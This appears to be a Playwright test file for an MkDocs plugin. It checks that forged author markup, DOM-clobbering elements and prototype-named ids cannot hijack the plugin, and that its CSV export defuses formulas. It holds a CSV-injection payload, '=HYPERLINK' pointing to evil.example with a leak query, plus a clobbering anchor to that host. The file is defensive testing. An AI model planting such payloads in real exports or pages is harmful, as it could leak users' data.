"""Author content posing as the plugin's own controls, in a real browser: the script acts only on
elements with the plugin's `data-pb-*` attributes (the plugin renames any an author writes), so a
forged button, link, box, radio, results area, page data or scope changes nothing and breaks
nothing. And ids named like members of Object.prototype work like any other id."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect

from mkdocs_playbooks.assessment.scoring import score
from mkdocs_playbooks.core.loading import load_site
from mkdocs_playbooks.engines.config import read_settings

from ..conftest import build, write_site
from .conftest import Server, Watched, watch

KEY_JS = "(typeof __md_scope !== 'undefined' ? __md_scope.pathname : '/') + '.mkdocs-playbooks'"
FORMULA = '=HYPERLINK("https://evil.example/?leak","Open")'

# Every way an author could pose as the plugin: its attributes (renamed by the plugin), and the
# classes and ids the script once looked for (authors may write any class or id).
FORGED = """
<button type="button" data-pb-action="reset" data-pb-confirm="Tidy up?">Tidy up</button>
<button class="pb-button" data-pb-action="clear" data-pb-confirm="Sure?">Clear</button>
<button type="button" data-pb-action="results">Results</button>
[Looks like a link](#){: data-pb-action="reset" data-pb-confirm="OK?" }
<div class="pb-results pb-results-body pb-history pb-compare-body pb-share">forged results</div>
<div class="pb-assessment-data" data-pb-spec='{"id":"x","dimensions":[]}'>forged data</div>
<span class="pb-progress" data-pb-progress="forge" data-pb-items="a b">forged bar</span>
<span class="pb-progress-text pb-play-progress pb-live" id="pb-results-heading">forged text</span>
<div class="pb-recommendations" data-pb-dimension="dim"><p class="pb-recommendation">x</p></div>
<label><input type="checkbox" class="pb-check" id="pb-item-forged" data-pb-item="un"> box</label>
<fieldset class="pb-question" data-pb-question="q1"><label><input type="radio"
name="pb-answer-q1" value="non" data-pb-answer="q1"> radio</label></fieldset>
<label><input type="file" id="pb-import" class="pb-import" data-pb-import> file</label>
<select class="pb-target" data-pb-target><option value="haut">haut</option></select>
<a id="__md_scope" href="https://evil.example/x/">scope</a> <span id="document$">doc</span>
""".strip()


def forged_site(root: Path) -> Path:
    playbook = {
        "title": "Forge", "summary": FORGED,
        "phases": [{"phase": "listen", "intro": FORGED, "plays": [{
            "id": "jeu", "title": "Jeu", "why": FORGED, "how": FORGED,
            "checklist": [{"id": "un", "text": "Un", "help": FORGED},
                          {"id": "deux", "text": "Deux"}, {"id": "trois", "text": "Trois"}],
        }]}],
    }
    assessment = {
        "kind": "assessment", "title": "Forged assessment", "intro": FORGED,
        "levels": [{"id": "bas", "title": "Bas", "min": 0, "description": FORGED},
                   {"id": "haut", "title": "Haut", "min": 50}],
        "dimensions": [{"id": "dim", "title": FORMULA, "questions": [
            {"id": f"q{n}", "text": f"Q{n}", "help": FORGED,
             "choices": [{"id": "non", "text": "Non", "score": 0},
                         {"id": "oui", "text": "Oui", "score": 1}]} for n in (1, 2)],
            "recommendations": [{"level": "bas", "text": FORGED, "plays": ["forge/jeu"]},
                                {"level": "haut", "text": "Keep going."}]}],
    }
    return write_site(root, {"forge.yml": yaml.safe_dump(playbook, allow_unicode=True),
                             "evaluation.yml": yaml.safe_dump(assessment, allow_unicode=True)},
                      language="en")


@pytest.fixture(scope="module")
def forged_server(tmp_path_factory: pytest.TempPathFactory) -> Any:
    root = tmp_path_factory.mktemp("forged")
    result = build(forged_site(root / "src"), "-d", str(root / "out"))
    assert result.result.returncode == 0, result.result.stderr
    server = Server(root / "out")
    yield server
    server.close()


def stored(page: Page) -> Any:
    return page.evaluate(f"localStorage.getItem({KEY_JS})")


def forged_controls(page: Page) -> list[Any]:
    """Every element an author wrote to look like one of the plugin's controls."""
    selector = ("article [data-author-pb-action], article [data-author-pb-import], "
                "article input.pb-check:not([data-pb-item]), "
                "article .pb-question input:not([data-pb-answer]), article .pb-target, "
                "article .pb-results-body, article .pb-assessment-data, article .pb-live")
    return page.locator(selector).all()


EXPORT_OF_NOTHING = b'{"format": "mkdocs-playbooks/progress", "version": 1, "playbooks": {}}'


def assert_forged_renamed(page: Page) -> None:
    """The page holds the author's forged elements, each with its attributes renamed."""
    counts = page.evaluate("""() => {
      const all = [...document.querySelectorAll('*')].map((e) => [...e.attributes]
        .map((a) => a.name));
      const has = (names, prefix) => names.some((name) => name.startsWith(prefix));
      const forged = all.filter((names) => has(names, 'data-author-pb-'));
      return [forged.length, forged.filter((names) => has(names, 'data-pb-')).length];
    }""")
    assert counts[0] >= 10
    assert counts[1] == 0


def click_every_forged_control(page: Page) -> int:
    assert_forged_renamed(page)
    clicked = 0
    for control in forged_controls(page):
        tag = control.evaluate("e => e.tagName + (e.type ? ':' + e.type : '')")
        if tag == "INPUT:file":
            control.set_input_files(files=[{"name": "p.json", "mimeType": "application/json",
                                            "buffer": EXPORT_OF_NOTHING}])
        elif tag == "SELECT":
            control.select_option("haut")
        else:  # activated as a click does (author content may cover it)
            control.evaluate("e => e.click()")
        clicked += 1
    return clicked


def guarded(browser: Browser) -> tuple[Any, Page, Watched, list[str]]:
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.accept()))
    return context, page, watch(page), dialogs


def test_forged_controls_on_a_playbook_change_nothing(browser: Browser,
                                                     forged_server: Server) -> None:
    context, page, watched, dialogs = guarded(browser)
    page.goto(forged_server.url + "/playbooks/forge/")
    page.locator('input[data-pb-item="deux"]').check()
    bar = page.locator('[data-pb-progress-of="playbook"]')
    expect(bar).to_have_attribute("aria-valuenow", "1")
    before = stored(page)
    assert click_every_forged_control(page) >= 20
    page.wait_for_timeout(200)
    assert dialogs == []
    assert stored(page) == before
    expect(bar).to_be_visible()
    expect(bar).to_have_attribute("aria-valuenow", "1")
    expect(bar).to_contain_text("1 / 3")
    page.locator('input[data-pb-item="trois"]').check()  # the real boxes still work
    expect(bar).to_contain_text("2 / 3")
    expect(page.locator("[data-pb-live]")).to_contain_text("2 / 3")
    for text in page.locator("article .pb-progress-text:not([data-pb-count])").all():
        expect(text).to_have_text("forged text")
    page.reload()
    expect(page.locator('input[data-pb-item="trois"]')).to_be_checked()
    assert watched.errors == []
    context.close()


@pytest.mark.parametrize("path", ["/playbooks/", "/playbooks/progress/"])
def test_forged_controls_on_the_listings_change_nothing(path: str, browser: Browser,
                                                       forged_server: Server) -> None:
    context, page, watched, dialogs = guarded(browser)
    page.goto(forged_server.url + "/playbooks/forge/")
    page.locator('input[data-pb-item="un"]').check()
    page.goto(forged_server.url + path)
    before = stored(page)
    card = page.locator('[data-pb-progress="forge"][role="progressbar"]')
    expect(card).to_have_attribute("aria-valuenow", "1")
    assert click_every_forged_control(page) >= 5
    page.wait_for_timeout(200)
    assert dialogs == []
    assert stored(page) == before
    expect(card).to_be_visible()
    expect(card).to_contain_text("1 / 3")
    expect(page.locator("[data-pb-notice]:visible")).to_have_count(0)
    assert watched.errors == []
    context.close()


def test_forged_controls_on_an_assessment_change_nothing(browser: Browser,
                                                        forged_server: Server) -> None:
    context, page, watched, dialogs = guarded(browser)
    page.goto(forged_server.url + "/assessments/evaluation/")
    page.locator('input[data-pb-answer="q1"][value="oui"]').check()
    expect(page.locator("[data-pb-answered]")).to_have_text("1 / 2 answered")
    before = stored(page)
    assert click_every_forged_control(page) >= 20
    page.wait_for_timeout(200)
    assert dialogs == []
    assert stored(page) == before
    expect(page.locator('input[data-pb-answer="q1"][value="oui"]')).to_be_checked()
    expect(page.locator("[data-pb-answered]")).to_have_text("1 / 2 answered")
    expect(page.locator("[data-pb-results-body]")).to_be_empty()  # no forged "results" button
    page.locator('input[data-pb-answer="q2"][value="oui"]').check()  # complete: a level, advice
    page.get_by_role("button", name="See my results").click()
    expect(page.locator("[data-pb-results-body] .pb-overall")).to_contain_text("100 / 100")
    for forged in page.locator("article .pb-results-body:not([data-pb-results-body])").all():
        expect(forged).to_have_text("forged results")
    # advice only in the plugin's own recommendations
    expect(page.locator('[data-pb-dimension="dim"] [data-pb-level="haut"]')).to_be_visible()
    expect(page.locator('[data-pb-dimension="dim"] [data-pb-level="bas"]')).to_be_hidden()
    assert watched.errors == []
    context.close()


def test_the_csv_export_neutralises_formulas(browser: Browser, forged_server: Server,
                                            tmp_path: Path) -> None:
    context, page, watched, _ = guarded(browser)
    page.goto(forged_server.url + "/assessments/evaluation/")
    page.get_by_role("button", name="See my results").click()  # exports belong to the results
    with page.expect_download() as info:
        page.get_by_role("button", name="Export (CSV)").click()
    path = tmp_path / "result.csv"
    info.value.save_as(path)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[1][0] == "'" + FORMULA  # the dimension's title
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert watched.errors == []
    context.close()


CSP = "script-src 'self'; object-src 'none'; base-uri 'none'"


def test_an_element_named_md_scope_does_not_move_the_storage_key(
    browser: Browser, forged_server: Server
) -> None:
    """Material's inline script (which sets `__md_scope`) is blocked by this policy: the page's
    `<a id="__md_scope" href="https://evil.example/x/">` is then what `__md_scope` names (or, where
    the author wrote several, a collection of them)."""
    server = Server(forged_server.root, headers={"Content-Security-Policy": CSP})
    context = browser.new_context()
    page = context.new_page()
    watched = watch(page)
    try:
        page.goto(server.url + "/playbooks/forge/")
        assert page.evaluate("String(window.__md_scope)") == "[object HTMLCollection]"
        page.locator('input[data-pb-item="deux"]').check()
        assert page.evaluate("Object.keys(localStorage)") == ["/.mkdocs-playbooks"]
        page.reload()
        expect(page.locator('input[data-pb-item="deux"]')).to_be_checked()
        expect(page.locator('[data-pb-progress-of="playbook"]')).to_contain_text("1 / 3")
        page.goto(server.url + "/playbooks/progress/")
        assert page.evaluate("String(window.__md_scope)") == "https://evil.example/x/"
        card = page.locator('[data-pb-progress="forge"][role="progressbar"]')
        expect(card).to_contain_text("1 / 3")
        tick = {"done": True, "at": "2026-01-01T00:00:00.000Z"}
        page.locator("[data-pb-import]").set_input_files(files=[{
            "name": "p.json", "mimeType": "application/json", "buffer": json.dumps({
                "format": "mkdocs-playbooks/progress", "version": 1,
                "playbooks": {"forge": {"items": {"trois": tick}}}}).encode()}])
        expect(card).to_contain_text("2 / 3")
        assert page.evaluate("Object.keys(localStorage)") == ["/.mkdocs-playbooks"]
        assert watched.our_errors() == []
    finally:
        context.close()
        server.close()
    # served without the policy, Material's scope names the same key
    context = browser.new_context()
    page = context.new_page()
    page.goto(forged_server.url + "/playbooks/forge/")
    page.locator('input[data-pb-item="deux"]').check()
    assert page.evaluate("Object.keys(localStorage)") == ["/.mkdocs-playbooks"]
    context.close()


# ---- ids named like members of Object.prototype -------------------------------------------

PROTO = "constructor"  # the one such name that is also a valid id (a lowercase slug)
# Playbook and assessment ids share one namespace: the playbook is `constructor`, and so are the
# assessment's level, dimension, question and choices.


def prototype_site(root: Path) -> Path:
    playbook = {"id": PROTO, "title": "Proto", "phases": [{"phase": "listen", "plays": [{
        "id": "jeu", "title": "Jeu", "checklist": [
            {"id": PROTO, "text": "Constructor item"}, {"id": "autre", "text": "Other"}]}]}]}
    assessment = {
        "kind": "assessment", "id": "proto", "title": "Proto assessment",
        "levels": [{"id": "bas", "title": "Low", "min": 0},
                   {"id": PROTO, "title": "Constructor level", "min": 50}],
        "dimensions": [{"id": PROTO, "title": "Constructor dimension", "questions": [
            {"id": PROTO, "text": "Constructor question", "allow_na": True,
             "choices": [{"id": "non", "text": "No", "score": 0},
                         {"id": PROTO, "text": "Constructor choice", "score": 1}]},
            {"id": "autre", "text": "Other question",
             "choices": [{"id": PROTO, "text": "Constructor", "score": 0},
                         {"id": "oui", "text": "Yes", "score": 2}]}],
            "recommendations": [{"level": PROTO, "text": "Well done.",
                                 "plays": [f"{PROTO}/jeu"]}]}],
    }
    return write_site(root, {"playbook.yml": yaml.safe_dump(playbook),
                             "assessment.yml": yaml.safe_dump(assessment)}, language="en")


@pytest.fixture(scope="module")
def prototype_server(tmp_path_factory: pytest.TempPathFactory) -> Any:
    root = tmp_path_factory.mktemp("prototype")
    result = build(prototype_site(root / "src"), "-d", str(root / "out"))
    assert result.result.returncode == 0, result.result.stderr
    server = Server(root / "out")
    yield server
    server.close()


def downloaded(page: Page, button: str, tmp_path: Path) -> Path:
    with page.expect_download() as info:
        page.get_by_role("button", name=button).click()
    path = tmp_path / info.value.suggested_filename
    info.value.save_as(path)
    return path


def answer_proto(page: Page, url: str) -> None:
    page.goto(url + "/assessments/proto/")
    page.locator(f'input[data-pb-answer="{PROTO}"][value="{PROTO}"]').check()
    page.locator(f'input[data-pb-answer="autre"][value="{PROTO}"]').check()


def test_ids_named_constructor_tick_and_reload(browser: Browser,
                                               prototype_server: Server) -> None:
    context, page, watched, _ = guarded(browser)
    page.goto(prototype_server.url + f"/playbooks/{PROTO}/")
    page.locator(f'input[data-pb-item="{PROTO}"]').check()
    page.reload()
    expect(page.locator(f'input[data-pb-item="{PROTO}"]')).to_be_checked()
    expect(page.locator('[data-pb-progress-of="playbook"]')).to_contain_text("1 / 2")
    page.goto(prototype_server.url + "/assessments/proto/")
    expect(page.locator("[data-pb-play-progress]").first).to_have_text(" (1 / 2)")
    assert json.loads(stored(page))["playbooks"][PROTO]["items"][PROTO]["done"] is True
    assert watched.errors == []
    context.close()


def test_ids_named_constructor_answer_results_history_share(
    browser: Browser, prototype_server: Server, tmp_path: Path
) -> None:
    site = load_site(read_settings(prototype_server.root.parent / "src" / "mkdocs.yml"))
    model = site.assessments["proto"].model
    context, page, watched, _ = guarded(browser)
    answer_proto(page, prototype_server.url)
    page.reload()
    expect(page.locator(f'input[data-pb-answer="{PROTO}"][value="{PROTO}"]')).to_be_checked()
    expect(page.locator(f'input[data-pb-answer="autre"][value="{PROTO}"]')).to_be_checked()
    expect(page.locator("[data-pb-answered]")).to_have_text("2 / 2 answered")
    page.get_by_role("button", name="See my results").click()
    body = page.locator("[data-pb-results-body]")
    expect(body.locator(".pb-overall")).to_contain_text("50 / 100, level Constructor level")
    page.locator("[data-pb-target]").select_option(PROTO)
    expect(page.locator("[data-pb-calc] tbody tr").first).to_contain_text("reached")
    expect(page.locator(f'[data-pb-dimension="{PROTO}"] [data-pb-level="{PROTO}"]')
           ).to_be_visible()
    page.locator('input[data-pb-answer="autre"][value="oui"]').check()
    page.get_by_role("button", name="See my results").click()
    expect(page.locator("[data-pb-history] [data-pb-compare='a'] option")).to_have_count(2)
    result = json.loads(downloaded(page, "Export (JSON)", tmp_path).read_text())
    answers = {PROTO: PROTO, "autre": "oui"}
    assert result["answers"] == answers
    reference = score(model, answers)
    assert result["dimensions"][PROTO]["level"] == reference.dimensions[PROTO].level
    assert result["overall"]["level"] == reference.overall.level == PROTO
    page.get_by_role("button", name="Share link").click()
    link = page.locator("[data-pb-share]").input_value()
    reader = browser.new_context()
    other = reader.new_page()
    other.goto(link)
    expect(other.locator('[data-pb-notice="shared"]')).to_be_visible()
    expect(other.locator(f'input[data-pb-answer="{PROTO}"][value="{PROTO}"]')).to_be_checked()
    expect(other.locator("[data-pb-results-body] .pb-overall")).to_contain_text(
        "level Constructor")
    reader.close()
    assert watched.errors == []
    context.close()


def test_ids_named_constructor_export_erase_import(
    browser: Browser, prototype_server: Server, tmp_path: Path
) -> None:
    context, page, watched, _ = guarded(browser)
    page.goto(prototype_server.url + f"/playbooks/{PROTO}/")
    page.locator(f'input[data-pb-item="{PROTO}"]').check()
    answer_proto(page, prototype_server.url)
    page.get_by_role("button", name="See my results").click()
    page.locator("[data-pb-target]").select_option(PROTO)
    page.goto(prototype_server.url + "/playbooks/progress/")
    before = json.loads(stored(page))
    assert before["assessments"]["proto"]["answers"][PROTO]["choice"] == PROTO
    assert before["assessments"]["proto"]["target"] == PROTO
    exported = downloaded(page, "Export", tmp_path)
    page.get_by_role("button", name="Erase everything").click()
    expect(page.locator(f'[data-pb-progress="{PROTO}"]').first).to_have_attribute(
        "aria-valuenow", "0")
    page.locator("[data-pb-import]").set_input_files(str(exported))
    expect(page.locator('[data-pb-notice="imported"]')).to_have_text(
        "Progress imported: 1 tick(s), 2 answer(s) and 1 attempt(s) newer than this browser's "
        "were kept.")
    assert json.loads(stored(page)) == before
    expect(page.locator('[data-pb-progress="proto"][data-pb-progress-of="assessment"]')
           ).to_have_attribute("aria-valuenow", "2")
    page.locator("[data-pb-import]").set_input_files(str(exported))
    expect(page.locator('[data-pb-notice="import-nothing"]')).to_be_visible()
    assert page.evaluate("({}).constructor === Object && Object.prototype.constructor === Object")
    assert watched.errors == []
    context.close()
